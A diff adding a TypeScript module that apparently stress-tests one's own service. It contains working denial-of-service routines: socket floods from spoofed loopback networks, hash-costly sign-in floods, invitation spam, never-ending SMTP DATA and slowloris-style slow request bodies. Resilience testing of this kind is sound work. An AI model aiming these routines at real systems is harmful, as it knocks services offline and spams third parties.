@@ -1,0 +1,177 @@
+import { once } from 'node:events';
+import { connect } from 'node:net';
+import { setTimeout as sleep } from 'node:timers/promises';
+import { connect as connectTls } from 'node:tls';
+import { ask } from './asking.ts';
+import type { Budget } from './budget.ts';
+import { converse } from './smtp.ts';
+import { Counts, type Tally } from './tally.ts';
+import { hostOf, type Listener, type Target } from './target.ts';
+
+/** What each door is attacked with. Each ends with its budget, and says what it got. */
+
+export interface Means {
+  readonly target: Target;
+  /** Of an account of one's own. */
+  readonly key: string;
+  readonly submission: Listener | null;
+  readonly returnPath: Listener | null;
+  /** The secret of a link that signs an owner in; null: nobody is invited. */
+  readonly link: string | null;
+}
+
+export const DOORS = ['connections', 'sign-in', 'invitations', 'dots', 'bodies'] as const;
+export type Door = (typeof DOORS)[number];
+
+/** Null: `means` has nothing to attack it with. */
+export type Attack = (means: Means, budget: Budget) => Promise<Tally> | null;
+
+export const ATTACKS: Readonly<Record<Door, Attack>> = {
+  connections,
+  'sign-in': signIn,
+  invitations,
+  dots,
+  bodies,
+};
+
+const NETWORKS = 50;
+
+/** On loopback fifty networks of their own (/24), as somebody with many machines has; elsewhere one's own. */
+function sourceOf({ isLoopback, url }: Target, at: number): string | undefined {
+  return isLoopback && hostOf(url) !== '::1' ? `127.66.${at % NETWORKS}.1` : undefined;
+}
+
+/** Sockets that say nothing, at every listener, again when they are cut. */
+function connections({ target, submission, returnPath }: Means, { limits, signal }: Budget): Promise<Tally> {
+  const counts = new Counts();
+  const listeners = [webOf(target), submission, returnPath].filter((each) => each !== null);
+  return together(limits.sockets, async (at) => {
+    const listener = listeners[at % listeners.length]!;
+    while (!signal.aborted) {
+      const localAddress = sourceOf(target, at);
+      const socket = connect({ ...listener, ...(localAddress && { localAddress }) });
+      socket.once('connect', () => counts.add('connected'));
+      socket.once('error', (error: NodeJS.ErrnoException) => counts.add(error.code ?? 'failed'));
+      const end = () => socket.destroy();
+      signal.addEventListener('abort', end, { once: true });
+      await once(socket, 'close').catch(() => {});
+      signal.removeEventListener('abort', end);
+      socket.destroy();
+      await pause(200, signal);
+    }
+  }).then(() => counts.tally());
+}
+
+const SIGN_INS = 64;
+
+/** Passwords of somebody who is nobody, each of which costs a hash. */
+function signIn({ target }: Means, { signal }: Budget): Promise<Tally> {
+  const counts = new Counts();
+  return together(SIGN_INS, async (at) => {
+    for (let each = 0; !signal.aborted; each++) {
+      const email = `nobody-${at}-${each}@attack.invalid`;
+      const body = JSON.stringify({ email, password: 'not the password of anybody' });
+      const { status } = await ask(target.url, {
+        ...{ method: 'POST', path: '/v1/portal/session', headers: ownOrigin(target), body },
+        ...{ from: sourceOf(target, at + each), signal },
+      });
+      if (!signal.aborted) counts.add(status || 'no answer');
+      if (status !== 401) await pause(200, signal);
+    }
+  }).then(() => counts.tally());
+}
+
+const INVITATIONS = 60;
+/** Reaches nobody. */
+const VICTIM = 'victim@attack.invalid';
+
+/** Sixty invitations to one address. */
+function invitations({ target, link }: Means, { signal }: Budget): Promise<Tally> | null {
+  if (link === null) return null;
+  return inviteAll(target, link, signal);
+}
+
+async function inviteAll(target: Target, link: string, signal: AbortSignal): Promise<Tally> {
+  const counts = new Counts();
+  const headers = ownOrigin(target);
+  const session = { method: 'POST', path: '/v1/portal/session', headers, body: JSON.stringify({ link }) };
+  const { status, cookie } = await ask(target.url, session);
+  if (status !== 200 || cookie === null) return { [`signing in with the link: ${status}`]: 1 };
+  await together(INVITATIONS, async () => {
+    const body = JSON.stringify({ email: VICTIM, role: 'viewer' });
+    const how = { method: 'POST', path: '/v1/portal/members', headers: { ...headers, cookie }, body, signal };
+    counts.add((await ask(target.url, how)).status || 'no answer');
+  });
+  return counts.tally();
+}
+
+const DOT_SESSIONS = 8;
+const DOT_LINES = '..\r\n'.repeat(16 * 1024);
+
+/** Mail whose lines are dots, which never ends: none of it is accepted. */
+function dots({ target, key, submission }: Means, budget: Budget): Promise<Tally> | null {
+  if (submission === null) return null;
+  const counts = new Counts();
+  const { signal } = budget;
+  return together(DOT_SESSIONS, async (at) => {
+    while (!signal.aborted) {
+      const { socket, say, end } = await converse(submission, sourceOf(target, at), signal);
+      const login = Buffer.from(`\0attack\0${key}`).toString('base64');
+      const codes = [await say(`AUTH PLAIN ${login}`), await say('MAIL FROM:<attack@attack.invalid>')];
+      codes.push(await say(`RCPT TO:<${VICTIM}>`), await say('DATA'));
+      counts.add(`DATA: ${codes.at(-1) || 'cut off'}`);
+      while (codes.at(-1) === 354 && !socket.destroyed && budget.takeBytes(DOT_LINES.length) > 0)
+        if (!socket.write(DOT_LINES)) await Promise.race([once(socket, 'drain'), once(socket, 'close')]);
+      end();
+      await pause(500, signal);
+    }
+  }).then(() => counts.tally());
+}
+
+const BODY_SOCKETS = 64;
+const ANNOUNCED_BYTES = 64 * 1024 * 1024;
+
+/** Bodies of 64 MiB that are announced with a good key, and come by the byte. */
+function bodies({ target, key }: Means, budget: Budget): Promise<Tally> {
+  const counts = new Counts();
+  const { signal, limits } = budget;
+  const { url } = target;
+  const head =
+    `POST /v1/messages HTTP/1.1\r\nHost: ${url.host}\r\nAuthorization: Bearer ${key}\r\n` +
+    `Idempotency-Key: attack\r\nContent-Type: application/json\r\nContent-Length: ${ANNOUNCED_BYTES}\r\n\r\n`;
+  return together(Math.min(BODY_SOCKETS, limits.sockets), async (at) => {
+    while (!signal.aborted) {
+      const localAddress = sourceOf(target, at);
+      const socket =
+        url.protocol === 'https:'
+          ? connectTls({ ...webOf(target), servername: url.hostname, rejectUnauthorized: false })
+          : connect({ ...webOf(target), ...(localAddress && { localAddress }) });
+      socket.once('data', (chunk: Buffer) => counts.add(chunk.toString('latin1').slice(9, 12)));
+      socket.on('error', () => {});
+      socket.write(head);
+      while (!socket.destroyed && !signal.aborted && budget.takeBytes(1) === 1) {
+        socket.write('x');
+        await pause(1_000, signal);
+      }
+      if (!socket.destroyed) counts.add('held until the end');
+      socket.destroy();
+      await pause(200, signal);
+    }
+  }).then(() => counts.tally());
+}
+
+function webOf({ url }: Target): Listener {
+  return { host: hostOf(url), port: Number(url.port || (url.protocol === 'https:' ? 443 : 80)) };
+}
+
+function ownOrigin({ url }: Target): Record<string, string> {
+  return { 'sec-fetch-site': 'same-origin', origin: url.origin };
+}
+
+async function together(count: number, each: (at: number) => Promise<void>): Promise<void> {
+  await Promise.all(Array.from({ length: count }, (_, at) => each(at)));
+}
+
+async function pause(ms: number, signal: AbortSignal): Promise<void> {
+  await sleep(ms, undefined, { signal }).catch(() => {});
+}
